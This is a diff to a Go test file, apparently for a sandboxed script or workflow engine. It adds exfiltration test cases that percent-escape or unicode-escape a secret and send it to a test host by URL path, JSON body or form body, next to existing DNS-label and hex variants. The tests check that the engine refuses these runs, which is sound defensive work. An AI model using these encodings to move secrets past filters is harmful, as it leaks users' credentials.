@@ -267,6 +267,7 @@ func TestCase22_Exfiltration(t *testing.T) {
 	}
 	b := hostB.URL
 	hexK := "Array.from(secrets.K).map(c => c.charCodeAt(0).toString(16).padStart(2, '0')).join('')"
+	pctK := "Array.from(secrets.K).map(c => '%' + c.charCodeAt(0).toString(16).padStart(2, '0')).join('')"
 	ways := map[string]map[string]any{
 		"url":      {"url": "`" + b + "/x?q=${encodeURIComponent(secrets.K)}`"},
 		"path":     {"url": "`" + b + "/${encodeURIComponent(secrets.K)}`"},
@@ -279,6 +280,11 @@ func TestCase22_Exfiltration(t *testing.T) {
 		"hex":      {"method": "'POST'", "url": quote(b + "/x"), "body": "({data: " + hexK + "})"},
 		"dnslabel": {"url": "`http://${" + strings.ReplaceAll(hexK, "secrets.K", "secrets.SHORT") + "}.example.invalid/`"},
 		"query":    {"url": quote(b + "/x"), "query": "({k: secrets.K})"},
+		// Escaped character by character, which the server decodes back
+		// (attacker round four).
+		"pct-all":  {"url": "'" + b + "/p/' + " + pctK + " + '?q=' + " + pctK},
+		"json-u":   {"method": "'POST'", "url": quote(b + "/x"), "body": "'{\"k\":\"' + " + strings.ReplaceAll(pctK, "'%'", "'\\\\u00'") + " + '\"}'", "body_type": "'text'"},
+		"pct-body": {"method": "'POST'", "url": quote(b + "/x"), "body": "'k=' + " + pctK, "body_type": "'text'"},
 	}
 	for name, cfg := range ways {
 		msg := e.refusedRun("ex-"+name, cfg)
